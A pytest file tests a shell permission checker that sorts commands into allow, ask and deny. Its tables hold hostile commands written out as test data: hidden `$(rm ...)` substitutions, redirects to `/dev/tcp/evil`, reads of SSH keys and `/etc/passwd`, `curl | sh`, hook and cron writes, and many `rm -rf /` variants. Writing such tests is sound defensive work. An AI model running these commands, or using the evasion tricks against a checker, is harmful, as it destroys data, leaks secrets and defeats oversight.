"""One table per rule of the shell checker, with what it lets through and what it does not. A checker that asks too much
fails here as one that asks too little does."""

from __future__ import annotations

import pytest

from permissions.deciding import bash

NPM = ("Bash(npm run:*)", "Bash(npm test *)", "Bash(echo:*)", "Bash(git log *)", "Bash(ls*)")

# --- security S1: what is read ------------------------------------------------------------------------------------

READ = [
    ("npm run build", "allow"),
    ("npm   run\tbuild", "allow"),
    ("npm run build # and a comment; rm x", "allow"),
    ("npm run \\\n  build", "allow"),
    ("npm run 'a b' \"c d\" e\\ f", "allow"),
    ("echo 'héllo 日本' \"👩\u200d💻\"", "allow"),
    ("echo 'two\nlines'", "allow"),
    ("npm ru\\\nn build", "ask"),
    ("npm run build\x00", "ask"),
    ("npm run \x1b[2Jbuild", "ask"),
    ("npm run build\r", "ask"),
    ("npm run \u202ebuild", "ask"),
    ("npm run 'x\u202ey'", "ask"),
    ("npm run \u200bbuild", "ask"),
    ("npm\u00a0run build", "ask"),
    ("npm run \u2028rm x", "ask"),
    ("npm run \ud800", "ask"),
    ("npm run " + "a" * 9_000, "allow"),
    ("npm run " + "a" * 10_000, "ask"),
    ("npm run 'unclosed", "ask"),
    ("npm run build &&", "ask"),
    ("npm run build; ; npm run x", "ask"),
    ("npm run ${x@P}", "ask"),
    ("npm run ${!x}", "ask"),
    ("npm run $[1+1]", "ask"),
    ("npm run `echo \\`rm x\\``", "ask"),
    ("npm run ${x:=`rm y`}", "ask"),
    ("npm run ${x:-$(rm y)}", "ask"),
    ("echo <<E\n`rm y`\nE", "ask"),
    ("echo <<E\nfoo\\\nE\nrm y\nE", "ask"),
    ("echo $'\\cx'", "ask"),
    ("x='a[$(rm y)]'; echo $((x))", "ask"),
    ("echo $((a[$(rm y)]))", "ask"),
    ("[[ $(rm y) -eq 1 ]]", "ask"),
    ("x='a[$(rm y)]'; [[ x -eq 1 ]] && echo", "ask"),
]


@pytest.mark.parametrize(("command", "wanted"), READ)
def test_s1_only_what_can_be_read_is_allowed(command: str, wanted: str) -> None:
    assert bash(command, allow=NPM) == wanted


# --- security S2: every simple command by itself ------------------------------------------------------------------

SPLIT = [
    ("npm run a && npm run b", "allow"),
    ("npm run a || echo no; npm test", "allow"),
    ("npm run a | tail -5 |& grep x", "allow"),
    ("npm run a & echo b", "allow"),
    ("npm run a\necho b", "allow"),
    ("(npm run a; { echo b; })", "allow"),
    ("if npm test; then echo yes; else echo no; fi", "allow"),
    ("for f in a b; do echo $f; done", "allow"),
    ("while npm test; do echo again; done", "allow"),
    ("case $x in a|b) echo 1;; *) npm run c;; esac", "allow"),
    ("f() { npm run a; }; f", "allow"),
    ('echo $(npm run a) "`npm run b`"', "allow"),
    ("echo <(npm run a)", "allow"),
    ("npm run a <<'E'\n$(rm x)\nE", "allow"),
    ("npm run a <<E\n$(npm run b)\nE", "allow"),
    ("! npm test", "allow"),
    ("npm run a && rm b", "ask"),
    ("npm run a || rm b", "ask"),
    ("npm run a; rm b", "ask"),
    ("npm run a | rm b", "ask"),
    ("npm run a |& rm b", "ask"),
    ("npm run a & rm b", "ask"),
    ("npm run a\nrm b", "ask"),
    ("(rm b)", "ask"),
    ("{ rm b; }", "ask"),
    ("if rm b; then echo; fi", "ask"),
    ("if true; then rm b; fi", "ask"),
    ("if true; then echo; elif rm b; then echo; fi", "ask"),
    ("if true; then echo; else rm b; fi", "ask"),
    ("while rm b; do echo; done", "ask"),
    ("until rm b; do echo; done", "ask"),
    ("for f in $(rm b); do echo; done", "ask"),
    ("for ((i=0;i<3;i++)); do rm b; done", "ask"),
    ("select f in a; do rm b; done", "ask"),
    ("case $(rm b) in *) echo;; esac", "ask"),
    ("case x in x) rm b;; esac", "ask"),
    ("f() { rm b; }; f", "ask"),
    ("function f { rm b; }; f", "ask"),
    ("echo $(rm b)", "ask"),
    ('echo "$(rm b)"', "ask"),
    ("echo `rm b`", "ask"),
    ('echo "`rm b`"', "ask"),
    ("echo ${x:-`rm b`}", "ask"),
    ("echo $(echo $(echo $(rm b)))", "ask"),
    ("echo <(rm b)", "ask"),
    ("echo >(rm b)", "ask"),
    ("echo a <<E\n$(rm b)\nE", "ask"),
    ("echo a <<< $(rm b)", "ask"),
    ("coproc rm b", "ask"),
    ("coproc x { rm b; }", "ask"),
    ("trap 'rm b' EXIT", "ask"),
    ("x=$(rm b)", "ask"),
    ("x=(a $(rm b))", "ask"),
    ("echo $((1 + $(rm b)))", "ask"),
    ("[[ -n $(rm b) ]]", "ask"),
    ('[ -n "$(rm b)" ]', "ask"),
]


@pytest.mark.parametrize(("command", "wanted"), SPLIT)
def test_s2_every_simple_command_must_be_allowed_by_itself(command: str, wanted: str) -> None:
    assert bash(command, allow=NPM) == wanted


@pytest.mark.parametrize("command", [command for command, wanted in SPLIT if wanted == "ask" and "rm b" in command])
def test_s2_and_none_hides_from_a_deny_rule(command: str) -> None:
    assert bash(command, allow=["Bash"], deny=["Bash(rm:*)"]) in (
        ("deny", "ask")
        if "coproc x" in command or "[$(" in command or ":-`" in command or "1 + $(" in command
        else ("deny",)
    )


# --- security S3: words ------------------------------------------------------------------------------------------

WORDS = [
    # an exact rule
    (("Bash(npm run build)",), "npm run build", "allow"),
    (("Bash(npm run build)",), "npm 'run' \"build\"", "allow"),
    (("Bash(npm run build)",), "npm run build --watch", "ask"),
    (("Bash(npm run build)",), "npm run", "ask"),
    (("Bash(npm run build)",), "npm 'run build'", "ask"),
    (("Bash(npm run build)",), "NPM run build", "ask"),
    (("Bash(npm run build)",), "\uff4epm run build", "ask"),
    (("Bash(git commit -m 'a b')",), 'git commit -m "a b"', "allow"),
    (("Bash(git commit -m 'a b')",), "git commit -m a b", "ask"),
    # a prefix needs a word boundary
    (("Bash(npm run:*)",), "npm run", "allow"),
    (("Bash(npm run:*)",), "npm run x y", "allow"),
    (("Bash(npm run:*)",), "npm runx", "ask"),
    (("Bash(npm run *)",), "npm run", "allow"),
    (("Bash(npm run *)",), "npm run x", "allow"),
    (("Bash(npm run *)",), "npm runx", "ask"),
    (("Bash(npm:*)",), "npmx", "ask"),
    (("Bash(npm:*)",), "npm", "allow"),
    (("Bash(ls*)",), "lsof", "allow"),
    (("Bash(ls *)",), "lsof", "ask"),
    # in the middle and at the start
    (("Bash(cargo * --release)",), "cargo build --release", "allow"),
    (("Bash(cargo * --release)",), "cargo build -j 2 --release", "allow"),
    (("Bash(cargo * --release)",), "cargo build", "ask"),
    (("Bash(cargo * --release)",), "cargo --release", "ask"),
    (("Bash(* --version)",), "node --version", "allow"),
    (("Bash(* --help *)",), "npm --help x", "allow"),
    (("Bash(* --help *)",), "npm --help", "ask"),
    (("Bash(npm:* test)",), "npm test", "ask"),
    (("Bash(npm run a\\*b)",), "npm run 'a*b'", "allow"),
    (("Bash(npm run a\\*b)",), "npm run acb", "ask"),
    # by the written name
    (("Bash(npm:*)",), "/tmp/npm x", "ask"),
    (("Bash(npm:*)",), "./npm x", "ask"),
    (("Bash(./gradlew:*)",), "./gradlew build", "allow"),
    # the command word is one static string
    (("Bash(npm:*)",), "n''p\\m x", "allow"),
    (("Bash(npm:*)",), "$npm x", "ask"),
    (("Bash(npm:*)",), "np$x x", "ask"),
    (("Bash(npm:*)",), "np? x", "ask"),
    (("Bash(npm:*)",), "{npm,x}", "ask"),
    (("Bash(npm:*)",), 'npm $x "$y" *.js {a,b} ~/c', "allow"),
    (("Bash",), "$npm x", "allow"),
    (("Bash()",), "anything at all", "allow"),
    (("Bash(*)",), "anything at all", "allow"),
]


@pytest.mark.parametrize(("allow", "command", "wanted"), WORDS)
def test_s3_words_are_matched_after_quote_removal(allow: tuple[str, ...], command: str, wanted: str) -> None:
    assert bash(command, allow=allow) == wanted


DENIED = [
    ("Bash(rm:*)", "rm x", "deny"),
    ("Bash(rm:*)", "/bin/rm x", "deny"),
    ("Bash(rm:*)", "../../bin/rm x", "deny"),
    ("Bash(rm:*)", "~/bin/rm x", "deny"),
    ("Bash(/bin/rm:*)", "rm x", "deny"),
    ("Bash(rm -rf:*)", "rm -rf x", "deny"),
    ("Bash(rm -rf:*)", "rm x", "allow"),
    ("Bash(rm -rf:*)", "rm $x", "ask"),
    ("Bash(rm:*)", "rmdir x", "allow"),
    ("Bash(rm*)", "rmdir x", "deny"),
    ("Bash(git push:*)", "git push origin", "deny"),
    ("Bash(git push:*)", "git 'push' origin", "deny"),
    ("Bash(git push:*)", "git -C . push origin", "deny"),
    ("Bash(git push:*)", "git --no-pager push origin", "deny"),
    ("Bash(git push:*)", "git $x origin", "ask"),
    ("Bash(git push:*)", "git p* origin", "ask"),
    ("Bash(git push:*)", "git {push,origin}", "ask"),
    ("Bash(git push:*)", 'git commit -m "$x"', "allow"),
    ("Bash(git push:*)", "git log push", "allow"),
    ("Bash(git push:*)", "echo git push", "allow"),
    ("Bash(git push --force)", "git push --force", "deny"),
    ("Bash(git push --force)", "git push --force $x", "ask"),
    ("Bash(git push --force)", "git push origin", "allow"),
    ("Bash(curl * | sh)", "curl http://x | sh", "deny"),
    ("Bash(* --force)", "git push --force", "deny"),
    ("Bash(* --force)", "git push", "allow"),
    ("Bash(rm:*)", "git rm x", "allow"),
    ("Bash(rm:*)", "docker rm x", "allow"),
    ("Bash(rm:*)", "npm rm x", "allow"),
    ("Bash(rm:*)", "man rm", "allow"),
    ("Bash(rm:*)", "echo 'rm x; rm y'", "allow"),
    ("Bash(rm:*)", "grep -rn rm .", "allow"),
    ("Bash(rm:*)", 'for f in *.py; do echo "$f"; done', "allow"),
    ("Bash(rm:*)", "git log --format='%h %s' | awk '{print $1}' | sort | uniq -c", "allow"),
    ("Bash(rm:*)", "sed -n '1,5p' x | sed 's/rm/mv/g'", "allow"),
    ("Bash(rm:*)", "find . -name '*.py' -exec grep -l x {} +", "allow"),
    ("Bash(rm:*)", "FOO=1 npm test 2>&1 | tee out.log", "allow"),
    ("Bash(rm:*)", "git commit -m \"$(cat <<'EOF'\nremove `rm` $(rm x)\nEOF\n)\"", "allow"),
    ("Bash(rm:*)", "python3 script.py rm", "allow"),
    ("Bash(rm:*)", "npx prettier --check .", "allow"),
    ("Bash(rm:*)", "xargs -0 grep x", "allow"),
    ("Bash(rm:*)", "timeout 5 make all", "allow"),
    ("Bash(rm:*)", "set -euo pipefail; make", "allow"),
    ("Bash(rm:*)", "bash -c 'make all'", "allow"),
]


@pytest.mark.parametrize(("rule", "command", "wanted"), DENIED)
def test_s3_deny_compares_the_base_name_and_asks_where_it_may_match(rule: str, command: str, wanted: str) -> None:
    assert bash(command, allow=["Bash"], deny=[rule]) == wanted
    if wanted == "deny":
        assert bash(command, allow=["Bash"], ask=[rule]) == "ask"
        assert bash(command, deny=[rule], mode="bypassPermissions", hook="allow") == "deny"


# --- security S4: the order ----------------------------------------------------------------------------------------


def test_s4_deny_then_ask_then_allow_however_specific() -> None:
    both = {"allow": ["Bash(aws s3 ls)", "Bash(aws s3 ls:*)"], "deny": ["Bash(aws:*)"]}
    assert bash("aws s3 ls", **both) == "deny"
    assert bash("aws s3 ls", allow=["Bash(aws s3 ls)"], ask=["Bash(aws:*)"]) == "ask"
    assert bash("aws s3 ls", allow=["Bash(aws s3 ls)"], ask=["Bash(aws s3 ls)"], deny=["Bash(aws s3 ls)"]) == "deny"
    assert bash("aws s3 ls", ask=["Bash(aws:*)"], mode="bypassPermissions") == "ask"
    assert bash("aws s3 ls", ask=["Bash(aws:*)"], hook="allow") == "ask"
    assert bash("aws s3 ls", ask=["Bash(aws:*)"], mode="dontAsk") == "deny"
    assert bash("ls", deny=["Bash"]) == "deny"
    assert bash("ls", ask=["Bash"]) == "ask"


UNRESOLVABLE = [
    "$x y",
    'eval "$x"',
    'sh -c "$x"',
    "echo 'unclosed",
    "x=1 PATH=/tmp ls",
    "echo y | sh",
    "python3 -c 'print(1)'",
    ". ./x",
    "bash x.sh",
    "alias l=ls",
    "env -S 'ls x' $y",
    "exec $x",
    "hash -p /bin/ls x",
    "shopt -s expand_aliases",
    "awk -f x",
]


@pytest.mark.parametrize("command", UNRESOLVABLE)
def test_s4_what_is_not_resolvable_is_asked_while_a_rule_for_bash_exists(command: str) -> None:
    assert bash(command, allow=["Bash"]) == "allow"
    assert bash(command, mode="bypassPermissions") == "allow"
    for rules in ({"deny": ["Bash(curl:*)"]}, {"ask": ["Bash(curl:*)"]}):
        assert bash(command, allow=["Bash"], **rules) == "ask"
        assert bash(command, mode="bypassPermissions", **rules) == "ask"
        assert bash(command, mode="dontAsk", allow=["Bash"], **rules) == "deny"


# --- security S5 and S6: what is looked through --------------------------------------------------------------------

THROUGH = [
    ("timeout 10 npm test", "allow"),
    ("timeout -k 5 --signal=KILL 10s npm test", "allow"),
    ("time npm test", "allow"),
    ("time -p npm test", "allow"),
    ("nice npm test", "allow"),
    ("nice -n 10 npm test", "allow"),
    ("nohup npm test", "allow"),
    ("stdbuf -oL npm test", "allow"),
    ("command npm test", "allow"),
    ("builtin echo x", "allow"),
    ("timeout 10 nice -n 5 nohup npm test", "allow"),
    ("NODE_ENV=test CI=1 npm test", "allow"),
    ("LANG=C timeout 5 npm test", "allow"),
    ("FOO=1 npm test", "ask"),
    ("PATH=/tmp npm test", "ask"),
    ("LD_PRELOAD=x npm test", "ask"),
    ("NODE_OPTIONS=x npm test", "ask"),
    ("NODE_ENV=$(rm x) npm test", "ask"),
    ("timeout 10 rm x", "ask"),
    ("timeout --bogus 10 npm test", "ask"),
    ("time -o out npm test", "ask"),
    ("env npm test", "ask"),
    ("env NODE_ENV=test npm test", "ask"),
    ("sudo npm test", "ask"),
    ("xargs npm test", "ask"),
    ("setsid npm test", "ask"),
    ("ionice -c 3 npm test", "ask"),
    ("watch npm test", "ask"),
    ("sh -c 'npm test'", "ask"),
    ("eval npm test", "ask"),
    ("exec npm test", "ask"),
    ("/usr/bin/timeout 5 npm test", "ask"),
]


@pytest.mark.parametrize(("command", "wanted"), THROUGH)
def test_s5_allow_looks_through_a_fixed_list_only(command: str, wanted: str) -> None:
    assert bash(command, allow=NPM) == wanted


RUNNERS = [
    (("Bash(find:*)",), "find / -name x", "allow"),
    (("Bash(find:*)",), "find . -exec rm {} \\;", "ask"),
    (("Bash(find:*)",), "find . -delete", "ask"),
    (("Bash(find:*)",), "find . -fprint x", "ask"),
    (("Bash(find:*)",), "find . $x", "ask"),
    (("Bash(find . -name x -delete)",), "find . -name x -delete", "allow"),
    (("Bash(xargs:*)",), "xargs -n1 rm", "ask"),
    (("Bash(xargs:*)",), "xargs rm", "ask"),
    (("Bash(xargs grep:*)",), "xargs grep x", "allow"),
    (("Bash(xargs -n1 grep:*)",), "xargs -n1 grep x", "allow"),
    (("Bash(xargs -n1 grep:*)",), "xargs -n1 rm", "ask"),
    (("Bash(env:*)",), "env", "allow"),
    (("Bash(env:*)",), "env rm x", "ask"),
    (("Bash(env:*)",), "env A=1 rm x", "ask"),
    (("Bash(watch:*)",), "watch rm x", "ask"),
    (("Bash(sh:*)", "Bash(bash:*)"), "bash -c 'rm x'", "ask"),
    (("Bash(sh:*)", "Bash(bash:*)"), "sh", "ask"),
    (("Bash(bash:*)",), "bash --version", "allow"),
    (("Bash(bash build.sh:*)",), "bash build.sh all", "allow"),
    (("Bash(bash build.sh:*)",), "bash other.sh", "ask"),
    (("Bash(eval:*)",), "eval rm x", "ask"),
    (("Bash(sudo:*)",), "sudo rm x", "ask"),
    (("Bash(sudo apt:*)",), "sudo apt update", "allow"),
    (("Bash(git:*)",), "git push", "allow"),
    (("Bash(git:*)",), "git", "allow"),
    (("Bash(git:*)",), "git $x", "ask"),
    (("Bash(git:*)",), "git clean -x", "allow"),
    (("Bash(git:*)",), "git push -u origin main", "allow"),
    (("Bash(git:*)",), "git rebase main", "allow"),
    (("Bash(git:*)",), "git rebase --exec 'rm x' main", "ask"),
    (("Bash(git rebase:*)",), "git rebase -x 'rm x' main", "ask"),
    (("Bash(git rebase --exec make main)",), "git rebase --exec make main", "allow"),
    (("Bash(git:*)",), "git difftool", "ask"),
    (("Bash(git:*)",), "git bisect run rm x", "ask"),
    (("Bash(git:*)",), "git bisect good", "allow"),
    (("Bash(git:*)",), "git submodule foreach 'rm x'", "ask"),
    (("Bash(git:*)",), "git submodule update", "allow"),
    (("Bash(git:*)",), "git grep -Orm x", "ask"),
    (("Bash(git:*)",), "git clone --upload-pack=x y", "ask"),
    (("Bash(git:*)",), "git -c core.pager=x log", "ask"),
    (("Bash(git:*)",), "git -C /x status", "ask"),
    (("Bash(git:*)",), "git --no-pager log", "ask"),
    (("Bash(git --no-pager log:*)",), "git --no-pager log -5", "allow"),
    (("Bash(git * main)",), "git merge main", "allow"),
    (("Bash(git * main)",), "git -c core.fsmonitor=x diff main", "ask"),
    (("Bash(npx prettier:*)",), "npx prettier --check .", "allow"),
    (("Bash(docker compose:*)",), "docker compose up", "allow"),
    (("Bash(python:*)",), "python -c 'print(1)'", "allow"),
]


@pytest.mark.parametrize(("allow", "command", "wanted"), RUNNERS)
def test_s6_programs_that_run_others_are_not_covered_by_a_prefix_for_themselves(
    allow: tuple[str, ...], command: str, wanted: str
) -> None:
    assert bash(command, allow=allow) == wanted


# --- security S7: redirects ----------------------------------------------------------------------------------------

REDIRECTS = [
    ({}, "npm run x > /dev/null 2>&1", "allow"),
    ({}, "npm run x &> /dev/null", "allow"),
    ({}, "npm run x 2>&1 >&2 3<&0 4>&-", "allow"),
    ({}, "npm run x < in.txt", "allow"),
    ({}, "npm run x <<< 'text'", "allow"),
    ({}, "npm run x > out", "ask"),
    ({}, "npm run x >> out", "ask"),
    ({}, "npm run x >| out", "ask"),
    ({}, "npm run x 2> out", "ask"),
    ({}, "npm run x &> out", "ask"),
    ({}, "npm run x &>> out", "ask"),
    ({}, "npm run x >& out", "ask"),
    ({}, "> out", "ask"),
    ({}, "{ npm run x; } > out", "ask"),
    ({}, "while npm run x; do echo; done > out", "ask"),
    ({}, "npm run x > $out", "ask"),
    ({}, "npm run x > *.txt", "ask"),
    ({}, "npm run x < /etc/passwd", "ask"),
    ({}, "npm run x > /dev/tcp/evil/80", "ask"),
    ({}, "npm run x < /dev/udp/evil/80", "ask"),
    ({"allow": ("Edit(out)",)}, "npm run x > out", "allow"),
    ({"allow": ("Edit(./logs/**)",)}, "npm run x > logs/a.log", "allow"),
    ({"allow": ("Write",)}, "npm run x > out", "allow"),
    ({"allow": ("Edit(out)",)}, "npm run x > other", "ask"),
    ({"allow": ("Edit(//**)",)}, "npm run x > .git/config", "ask"),
    ({"allow": ("Edit(//**)",)}, "npm run x > ~/.bashrc", "ask"),
    ({"allow": ("Bash",)}, "npm run x > out", "allow"),
    ({"allow": ("Bash",)}, "npm run x > ../out", "ask"),
    ({"allow": ("Bash",)}, "npm run x > /etc/cron.d/x", "ask"),
    ({"allow": ("Bash",)}, "npm run x > .git/hooks/pre-commit", "ask"),
    ({"allow": ("Bash",)}, "npm run x > ~/.bashrc", "ask"),
    ({"allow": ("Bash",)}, 'npm run x > "$x"', "ask"),
    ({"allow": ("Bash",)}, "npm run x > /dev/tcp/evil/80", "ask"),
    ({"allow": ("Bash",)}, "tee -a .git/config", "ask"),
    ({"allow": ("Bash",)}, "cp x .git/hooks/pre-commit", "ask"),
    ({"allow": ("Bash",)}, "sed -i s/a/b/ .vscode/settings.json", "ask"),
    ({"mode": "acceptEdits"}, "npm run x > out", "allow"),
    ({"mode": "acceptEdits"}, "npm run x > ../out", "ask"),
    ({"mode": "acceptEdits"}, "npm run x > .git/config", "ask"),
    ({"mode": "bypassPermissions"}, "npm run x > /tmp/out", "allow"),
    ({"mode": "bypassPermissions"}, "npm run x > .git/config", "ask"),
    ({"deny": ("Edit(.env)",), "allow": ("Bash",)}, "npm run x > .env", "deny"),
    ({"deny": ("Edit(.env)",), "allow": ("Bash",)}, "npm run x > sub/../.env", "deny"),
    ({"deny": ("Edit(.env)",), "allow": ("Bash",)}, "bash -c 'npm run x > .env'", "deny"),
    ({"deny": ("Write",), "allow": ("Bash",)}, "npm run x > y", "deny"),
    ({"deny": ("Read(.env)",), "allow": ("Bash",)}, "npm run x < .env", "deny"),
    ({"ask": ("Edit(.env)",), "allow": ("Bash",)}, "npm run x > .env", "ask"),
    ({"allow": ("Bash(cd:*)", "Bash(git:*)")}, "cd sub && git status", "ask"),
    ({"allow": ("Bash(cd:*)", "Bash(git:*)")}, "cd . && git status", "allow"),
    ({"allow": ("Bash(cd:*)", "Edit(//**)")}, "cd sub && npm run x > out", "ask"),
    ({"allow": ("Bash(cd:*)",)}, "cd sub && npm run x > /dev/null", "allow"),
    ({"allow": ("Bash",)}, "cd sub && git status", "allow"),
    ({"allow": ("Bash",)}, "cd /elsewhere && git status", "ask"),
    ({"allow": ("Bash",)}, "cd $x && git status", "ask"),
    ({}, "cd sub && ls", "allow"),
    ({}, "cd sub && npm run x", "allow"),
    ({}, "cd /etc && cat passwd", "ask"),
    ({}, "cd .. && ls", "ask"),
]


@pytest.mark.parametrize(("given", "command", "wanted"), REDIRECTS)
def test_s7_a_redirect_is_a_file_write(given: dict[str, tuple[str, ...]], command: str, wanted: str) -> None:
    allow = (*NPM, *given.get("allow", ()))
    assert bash(command, **{**given, "allow": allow}) == wanted


# --- security S8: the read-only table ------------------------------------------------------------------------------

FREE = [
    "ls",
    "ls -la",
    "ls -l --color=auto src",
    "ls *.ts",
    "pwd",
    "echo hi",
    "echo $HOME",
    "cat README.md",
    "cat -n src/x.py",
    "head -n 5 x",
    "head -5 x",
    "tail -n +3 x",
    "wc -l src/*.py",
    "grep -rn foo src",
    "grep -E 'a|b' x | sort | uniq -c",
    "find . -name '*.py' -type f",
    "find src -maxdepth 2 -not -name x",
    "which python",
    "diff a b",
    "stat x",
    "du -sh .",
    "file x",
    "git status",
    "git status --short",
    "git diff",
    "git diff --stat HEAD~1",
    "git log --oneline -5",
    "git log -n 3 --author=x",
    "git show HEAD",
    "git branch -a",
    "git branch --show-current",
    "git rev-parse HEAD",
    "git remote -v",
    "git ls-files",
    "git blame x",
    "git stash list",
    "git tag -l",
    "date +%s",
    "whoami",
    "uname -a",
    "true && echo x",
    "sort x | head",
    "cut -d: -f1 x",
    "tr a-z A-Z",
    "basename a/b",
    "[ -f x ] && echo y",
    'test -n "$x"',
    "timeout 5 ls",
    "LANG=C sort x",
    "for f in *.py; do echo $f; done",
    "command -v git",
    "seq 1 5",
    "jq .a x.json",
    "rg -n foo src",
    "cat x | grep y 2>/dev/null",
    "sleep 1",
    "type ls",
    "realpath x",
    "md5sum x",
    "printf '%s\\n' a",
    "cat ./sub/../x",
    "comm a b",
    "sed -n '1,5p' x",
    "sed 's/a/b/g' x | head",
    "diff <(sort a) <(sort b)",
    "git diff HEAD~2..HEAD -- src",
    "x=5; echo $((x + 1))",
    'while read -r line; do echo "$line"; done < x',
    "if [ -d a ]; then ls a; fi",
]
ASKED = [
    "cat /etc/passwd",
    "cat ~/.ssh/id_rsa",
    "cat ../x",
    "ls /",
    "cat $x",
    'cat "$x"',
    "sort -o x y",
    "sort --output=x y",
    "sort *.txt",
    "sort --compress-program=x y",
    "uniq a b",
    "find . -delete",
    "find . -exec x {} +",
    "find . -name *.py",
    "find . -fprintf x y",
    "find -L .",
    "git diff --output=x",
    "git diff --ext-diff",
    "git log --output=x",
    "git branch new",
    "git branch -D x",
    "git tag v1",
    "git stash",
    "git stash drop",
    "git push",
    "git -C . status",
    "git --no-pager log",
    "git status *",
    "git remote add x y",
    "git config user.name x",
    "git checkout .",
    "git reflog expire --all",
    "date -s x",
    "date 010203",
    "tree -o x",
    "xxd a b",
    "xxd -r a",
    "file -m x y",
    "file -C -m x",
    "printf -v x y",
    "printf $x",
    "grep -f /etc/passwd x",
    "grep -R x .",
    "rg --pre x y",
    "rg -z x",
    "rg foo *",
    "ls --bogus",
    "ls --col",
    "cat --help-me",
    "tail --pid=1 --bogus x",
    "hostname newname",
    "FOO=1 ls",
    "PATH=x ls",
    "env",
    "printenv",
    "curl x",
    "cp a b",
    "rm x",
    "touch x",
    "mkdir x",
    "sed -i s/a/b/ x",
    "sed -n w/etc/x y",
    "sed 's/a/b/e' x",
    "sed -n p /etc/passwd",
    "sed -n p *.py",
    "sed $x y",
    "sed",
    "git diff /etc/passwd x",
    "git diff ../x y",
    "git diff -- ../x",
    "git log ~/x",
    "git show ..",
    "diff <(rm x) y",
    "tee x",
    "xargs cat",
    "python x",
    "node -e 1",
    "ls > x",
    "cd",
    "cd -",
    "cd ~",
    "echo x | sh",
    "jq -f x y",
    "wc --files0-from=/etc/passwd",
    "du --files0-from=x",
    "id; rm x",
    "read PATH",
    "export X=1",
]


@pytest.mark.parametrize("command", FREE)
def test_s8_what_only_reads_in_the_working_folders_is_not_asked(command: str) -> None:
    assert bash(command) == "allow"
    assert bash(command, mode="plan") == "allow"
    assert bash(command, mode="dontAsk") == "allow"


@pytest.mark.parametrize("command", ASKED)
def test_s8_everything_else_is_asked(command: str) -> None:
    assert bash(command) == "ask"
    assert bash(command, mode="dontAsk") == "deny"


def test_s8_file_arguments_obey_the_rules_for_reading() -> None:
    assert bash("cat .env", deny=["Read(.env)"]) == "deny"
    assert bash("cat ./x/../.env", deny=["Read(.env)"]) == "deny"
    assert bash("grep x .env", deny=["Read(.env)"], allow=["Bash"]) == "deny"
    assert bash("c'a't .e\"nv\"", deny=["Read(.env)"], allow=["Bash"]) == "deny"
    assert bash("sed -n p .env", deny=["Read(.env)"], allow=["Bash"]) == "deny"
    assert bash("cp .env x", deny=["Read(.env)"], allow=["Bash"]) == "deny"
    assert bash("cd sub; cat ../.env", deny=["Read(.env)"], allow=["Bash"]) == "deny"
    assert bash("cat $x", deny=["Read(.env)"], allow=["Bash"]) == "ask"
    assert bash("cat .en*", deny=["Read(.env)"], allow=["Bash"]) == "ask"
    assert bash("frob --file=.env", deny=["Read(.env)"], allow=["Bash"]) == "ask"
    assert bash("git show HEAD:.env", deny=["Read(.env)"], allow=["Bash"]) == "ask"
    assert bash("cat x", deny=["Read(.env)"], allow=["Bash"]) == "allow"
    assert bash("echo .env", deny=["Read(.env)"], allow=["Bash"]) == "allow"
    assert bash("cat /data/x", allow=["Read(//data/**)"]) == "allow"
    assert bash("rm x", deny=["Edit(x)"], allow=["Bash"]) == "deny"
    assert bash("mv x y", deny=["Edit(x)"], allow=["Bash"]) == "deny"
    assert bash("tee a x", deny=["Edit(x)"], allow=["Bash"]) == "deny"
    assert bash("sed -i s/a/b/ x", deny=["Edit(x)"], allow=["Bash"]) == "deny"
    assert bash("dd if=y of=x", deny=["Edit(x)"], allow=["Bash"]) == "deny"


# --- security S9: critical removals --------------------------------------------------------------------------------

CRITICAL = [
    "rm -rf /",
    "rm -rf /*",
    "rm -r /usr",
    "rmdir /etc",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf ~/*",
    "rm -rf .",
    "rm -rf ./",
    "rm -rf ..",
    "rm -rf *",
    "rm -rf ./*",
    "rm -rf .*",
    "rm -rf /nowhere/project",
    "rm -rf /nowhere",
    "rm -rf /nowhere/project/..",
    "rm -rf /nowhere/project/sub/..",
    'rm -rf "$DIR"/*',
    "rm -rf $DIR/*",
    'rm -rf "$DIR/"',
    "rm -rf $HOME",
    'rm -rf "$HOME"',
    "rm -rf ${PWD}",
    'rm -rf "$(pwd)"',
    "rm -rf $X/usr",
    "rm -rf ~/$(x)",
    "rm -rf ~root",
    "rm -rf {/,x}",
    "rm -rf //",
    "rm -rf /./",
    "rm -rf /usr/../etc",
    "rm -f -- /",
    "rm / -rf",
    "rm -rf a / b",
    "/bin/rm -rf /",
    "r''m -rf /",
    "sudo rm -rf /",
    "env rm -rf /",
    "timeout 5 rm -rf /",
    "bash -c 'rm -rf /'",
    "eval 'rm -rf /'",
    "(rm -rf /)",
    "echo $(rm -rf /)",
    "x() { rm -rf /; }",
    "find . -exec rm -rf / \\;",
    "xargs rm -rf /",
    "$x -rf /",
    "cd / && rm -rf usr",
    "cd ~ && rm -rf .",
    "rm -rf $x/$y/*",
    "rm -rf '/'",
    "rm -rf $'/'",
    "trap 'rm -rf ~' EXIT",
    "if true; then rm -rf /; fi",
    "rm -rf / 'unclosed",
]
ORDINARY = [
    "rm x",
    "rm -rf build",
    "rm -rf ./build",
    "rm -rf build/*",
    "rm *.pyc",
    "rm -rf node_modules",
    "rm -rf {dist,build}",
    'rm "$file"',
    "rm -rf /tmp/x/y",
    "rm -rf /nowhere/project/build",
    "rmdir a/b",
    "rm -rf ~/x/y",
    'rm -rf "$dir"',
    'rm -rf "$dir/build"',
    "rm -f a b c",
    "find . -name '*.pyc' -delete",
    "rm -rf logs/*/*",
    "echo 'rm -rf /'",
    "git rm -r x",
]


@pytest.mark.parametrize("command", CRITICAL)
def test_s9_critical_removals_are_never_approved(command: str) -> None:
    assert bash(command, allow=["Bash", "Bash(rm:*)"]) == "ask"
    assert bash(command, mode="bypassPermissions") == "ask"
    assert bash(command, mode="bypassPermissions", hook="allow") == "ask"
    assert bash(command, mode="acceptEdits", allow=["Bash"]) == "ask"
    assert bash(command, mode="dontAsk", allow=["Bash"]) == "deny"
    assert bash(command, mode="auto", allow=["Bash"]) == "ask"


@pytest.mark.parametrize("command", ORDINARY)
def test_s9_ordinary_removals_are(command: str) -> None:
    assert bash(command, allow=["Bash"]) == "allow"
    assert bash(command, mode="bypassPermissions") == "allow"
